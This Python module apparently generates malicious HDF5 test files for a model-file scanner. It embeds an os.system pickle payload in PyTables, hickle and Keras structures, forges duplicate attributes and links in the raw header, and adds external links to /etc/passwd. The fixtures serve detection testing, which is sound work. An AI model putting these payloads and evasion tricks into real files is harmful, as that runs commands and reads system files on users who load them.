"""Vectors of HDF5: what PyTables and hickle unpickle, and attributes and links that the library looks for elsewhere."""

import json
import pickle
import struct

from attack import COMMAND, Table
from attack_formats import LAMBDA, sequential

ATTACKS = Table()
NEVER_CLEAN = ("code", "malicious", "unreadable")


class Payload:
    def __reduce__(self):
        import os

        return os.system, (COMMAND,)


PICKLE = pickle.dumps(Payload(), 2)


# --- pickles ---------------------------------------------------------------------------------------------------------------------
def file(name, fill, path="model.h5", verdicts=("malicious",), fire=""):
    @ATTACKS.made(f"several-pickles/{name}", verdicts, fire)
    def _(folder):
        import h5py

        with h5py.File(folder / path, "w") as opened:
            fill(opened)
        return folder / path


def numbers(data=PICKLE):
    import numpy

    return numpy.frombuffer(data, "u1")


def text(data=PICKLE):
    import numpy

    return numpy.bytes_(data)


def rows(opened, kind="u1", filters=None, word=b"object", **attributes):
    """A row of objects as PyTables has them."""
    import h5py
    import numpy

    made = opened.create_dataset("rows", (1,), h5py.vlen_dtype(kind), chunks=(1,), compression=filters)
    made[0] = numpy.frombuffer(PICKLE + b"\0" * (-len(PICKLE) % 8), kind)
    for key, value in {"CLASS": b"VLARRAY", "VERSION": b"1.4", "PSEUDOATOM": word, **attributes}.items():
        made.attrs[key] = text(value)


def hickle(opened, fill):
    opened.attrs["HICKLE_VERSION"] = "5.0.3"
    opened.attrs["HICKLE_PYTHON_VERSION"] = "3.11.2"
    fill(opened)


def moved(opened):
    """PyTables gives a module of its first version its later name, which is three bytes longer: a text before the pickle's end is cut, and what
    it ended with pops it and takes the beginning of the next text for a text."""
    first = b"(ctables.Leaf\n0U\x05"
    second = b"cos\nsystem\n(V" + COMMAND.encode() + b"\ntR."
    opened.attrs["PYTABLES_FORMAT_VERSION"] = text(b"1.3")
    opened.attrs["FILTERS"] = text(b"".join(b"X" + struct.pack("<I", len(part)) + part for part in (first, second)) + b".")


file("hdf5_attribute", lambda opened: opened.attrs.create("TITLE", text()))
file("hdf5_attribute_of_group", lambda opened: opened.create_group("df").attrs.create("encoding", text()))
file("hdf5_attribute_that_breaks_off", lambda opened: opened.attrs.create("TITLE", text(PICKLE[:-1] + b"Q" + b".")))
file("hdf5_attribute_in_weights", lambda opened: opened.create_group("layers/dense/vars").attrs.create("TITLE", text()))
file("hdf5_attribute_of_filters", moved)
file("hdf5_rows", rows, "frame.h5")
file("hdf5_rows_pickled_word", lambda opened: rows(opened, word=b"Vobject\n."))
file("hdf5_rows_of_numbers", lambda opened: rows(opened, "<u2"), verdicts=NEVER_CLEAN)
file("hdf5_rows_filtered", lambda opened: rows(opened, filters="lzf"))
file("hdf5_import_that_breaks_off", lambda opened: opened.attrs.create("TITLE", text(b"cantigravity\nfly\n0.")))
file("hdf5_bytes", lambda opened: opened.create_dataset("data", data=numbers()))
file("hdf5_hickle", lambda opened: hickle(opened, lambda opened: opened.create_dataset("data", data=numbers(), compression="gzip")), "model.hkl")
file("hdf5_hickle_floats", lambda opened: hickle(opened, lambda opened: opened.create_dataset("data", data=numbers(PICKLE + bytes(-len(PICKLE) % 8)).view("f8"))), "model.hkl")
file("hdf5_hickle_lzf", lambda opened: hickle(opened, lambda opened: opened.create_dataset("data", data=numbers(), compression="lzf")), "model.hkl", NEVER_CLEAN)


# --- two places ------------------------------------------------------------------------------------------------------------------
EMPTY = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": []}}).encode()
NIL, LINK, ATTRIBUTE, CONTINUATION = 0x00, 0x06, 0x0C, 0x10
PREFIX = 4  # of a message: type, size, flags
MOST = 0xFFFFFFFF


def mixed(words, turns):
    """Steps of Bob Jenkins' hash: word `x` takes from word `y`, by so many bits; with `z`, that grows by `y`."""
    for x, y, z, by in turns:
        turned = (words[y] << by | words[y] >> (32 - by)) & MOST
        if z is None:
            words[x] = ((words[x] ^ words[y]) - turned) & MOST
        else:
            words[x] = ((words[x] - words[y]) & MOST) ^ turned
            words[y] = (words[y] + words[z]) & MOST


def lookup3(data):
    """What closes a header."""
    words = [(0xDEADBEEF + len(data)) & MOST] * 3
    while data:
        for i in range(3):
            words[i] = (words[i] + int.from_bytes(data[4 * i : 4 * i + 4], "little")) & MOST
        if len(data) <= 12:
            mixed(words, [(2, 1, None, 14), (0, 2, None, 11), (1, 0, None, 25), (2, 1, None, 16), (0, 2, None, 4), (1, 0, None, 14), (2, 1, None, 24)])
            return words[2]
        mixed(words, [(0, 2, 1, 4), (1, 0, 2, 6), (2, 1, 0, 8), (0, 2, 1, 16), (1, 0, 2, 19), (2, 1, 0, 4)])
        data = data[12:]
    return words[2]


def pieces(data):
    """Begin and end of the messages in each piece of the root's header."""
    at = struct.unpack_from("<Q", data, 36)[0]
    flags = data[at + 5]
    begin = at + 6 + (16 if flags & 0x20 else 0) + (4 if flags & 0x10 else 0) + (1 << (flags & 3))
    size = data[begin - (1 << (flags & 3)) : begin]
    todo = [(at, begin, begin + int.from_bytes(size, "little"))]
    while todo:
        start, begin, end = todo.pop()
        yield start, begin, end
        for kind, body in messages(data[begin:end]):
            if kind == CONTINUATION:
                place, length = struct.unpack_from("<QQ", body, PREFIX)
                todo.append((place, place + 4, place + length - 4))


def messages(data):
    while len(data) >= PREFIX:
        size = PREFIX + struct.unpack_from("<H", data, 1)[0]
        yield data[0], bytes(data[:size])
        data = data[size:]


def with_message(data, kind, body):
    """The file with one more message in the root's header, in the place of one that says nothing, before all others."""
    data = bytearray(data)
    new = bytes([kind]) + struct.pack("<HB", len(body), 0) + body
    for start, begin, end in pieces(bytes(data)):
        known = list(messages(data[begin:end]))
        free = max((len(one) for what, one in known if what == NIL), default=0)
        if free < len(new) + PREFIX:
            continue
        gone = next(i for i, (what, one) in enumerate(known) if what == NIL and len(one) == free)
        left = free - len(new) - PREFIX
        rest = bytes([NIL]) + struct.pack("<HB", left, 0) + bytes(left)
        changed = new + b"".join(one for i, (_, one) in enumerate(known) if i != gone) + rest
        data[begin:end] = changed.ljust(end - begin, b"\0")
        data[end : end + 4] = struct.pack("<I", lookup3(bytes(data[start:end])))
        return bytes(data)
    raise AssertionError("no room")


def latest(folder, fill):
    """A file in the newest layout with room in the root's header."""
    import h5py

    path = folder / "model.h5"
    with h5py.File(path, "w", libver="latest") as opened:
        opened.attrs.create("room", text(b" " * (len(EMPTY) + 400)))
        fill(opened)
        del opened.attrs["room"]
    return path


def attribute_message(name, value):
    name = name.encode() + b"\0"
    kind = struct.pack("<BBBBI", 0x13, 0, 0, 0, len(value))  # a text
    space = bytes([2, 0, 0, 0])  # of one element
    return bytes([3, 0]) + struct.pack("<HHHB", len(name), len(kind), len(space), 0) + name + kind + space + value


def link_message(name, address):
    return bytes([1, 0, len(name)]) + name.encode() + struct.pack("<Q", address)


@ATTACKS.made("nested-config/hdf5_attribute_in_two_places", NEVER_CLEAN)
def _(folder):
    def fill(opened):
        opened.attrs["model_config"] = json.dumps(sequential(LAMBDA))
        opened.attrs["keras_version"] = "3.15.1"
        for i in range(12):
            opened.attrs[f"a{i}"] = i

    path = latest(folder, fill)
    path.write_bytes(with_message(path.read_bytes(), ATTRIBUTE, attribute_message("model_config", EMPTY)))
    return path


@ATTACKS.made("nested-config/hdf5_attribute_twice", NEVER_CLEAN)
def _(folder):
    path = latest(folder, lambda opened: opened.attrs.create("x", text()))
    path.write_bytes(with_message(path.read_bytes(), ATTRIBUTE, attribute_message("x", b"text")))
    return path


@ATTACKS.made("nested-config/hdf5_link_in_two_places", NEVER_CLEAN)
def _(folder):
    def fill(opened):
        import h5py

        for i in range(12):
            opened[f"g{i}"] = h5py.ExternalLink("/etc/passwd", "/")

    path = latest(folder, fill)
    data = path.read_bytes()
    path.write_bytes(with_message(data, LINK, link_message("other", struct.unpack_from("<Q", data, 36)[0])))
    return path


@ATTACKS.made("nested-config/hdf5_group_and_data_set", NEVER_CLEAN)
def _(folder):
    """The library takes an object that could be both for a group."""

    def fill(opened):
        import h5py

        opened["g"] = h5py.ExternalLink("/etc/passwd", "/")

    path = latest(folder, fill)
    data = path.read_bytes()
    for kind, body in ((0x08, bytes([3, 0, 1, 0, 0])), (0x03, struct.pack("<BBBBIHH", 0x10, 0, 0, 0, 1, 0, 8)), (0x01, bytes([2, 0, 0, 0]))):
        data = with_message(data, kind, body)
    path.write_bytes(data)
    return path
